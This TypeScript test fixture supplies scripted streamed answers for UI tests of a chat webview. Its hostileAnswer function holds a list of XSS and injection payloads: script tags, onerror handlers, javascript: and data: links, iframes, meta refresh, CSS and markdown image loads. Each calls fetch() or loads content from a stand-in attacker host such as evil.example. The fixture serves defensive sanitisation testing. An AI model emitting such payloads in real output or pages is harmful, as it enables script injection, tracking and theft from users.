// Answers a stand-in model server streams in UI tests, chosen by the question: a code answer, a
// long one to stop half-way, and a hostile one that tries every way model output could run script,
// load something or navigate the webview.

/** Splits an answer into the small pieces a model streams (words with their spaces, newlines kept). */
export function streamPieces(text: string): string[] {
  return text.match(/\s*\S+|\s+$/g) ?? [text];
}

export function scriptedAnswer(question: string): string[] {
  if (/sum function/i.test(question)) {
    return streamPieces(
      "Here is a sum function:\n\n```ts\nfunction sum(numbers: number[]): number {\n  return numbers.reduce((total, n) => total + n, 0);\n}\n```\n\nIt adds the numbers **in order**, starting from `0`.",
    );
  }
  if (/long essay/i.test(question)) return streamPieces(`${"Loops repeat work until a condition changes. ".repeat(150)}The end.`);
  return streamPieces("Hi there!");
}

/** Model output carrying script, remote loads and navigation, all pointing at `attacker` or evil.example. */
export function hostileAnswer(attacker: string): string[] {
  const fetchIt = (what: string) => `fetch('${attacker}/${what}');window.pwned=true`;
  return streamPieces(
    [
      "Here you go.",
      `<script>${fetchIt("script")}</script>`,
      `<img src="x" onerror="${fetchIt("img-onerror")}">`,
      `[click me](javascript:${fetchIt("javascript-link")})`,
      `<iframe src="${attacker}/iframe"></iframe>`,
      `<svg xmlns="http://www.w3.org/2000/svg"><script>${fetchIt("svg-script")}</script></svg>`,
      `<meta http-equiv="refresh" content="0;url=${attacker}/meta-refresh">`,
      `<div style="background-image: url('${attacker}/css-url')">styled</div>`,
      `![tracking pixel](${attacker}/markdown-image.png)`,
      "![remote](https://evil.example/markdown-image.png)",
      `<a href="data:text/html,<script>${fetchIt("data-link")}</script>">data link</a>`,
      `<form action="${attacker}/form"><button>submit</button></form>`,
      `<link rel="stylesheet" href="${attacker}/style.css">`,
      "all done",
    ].join("\n\n"),
  );
}
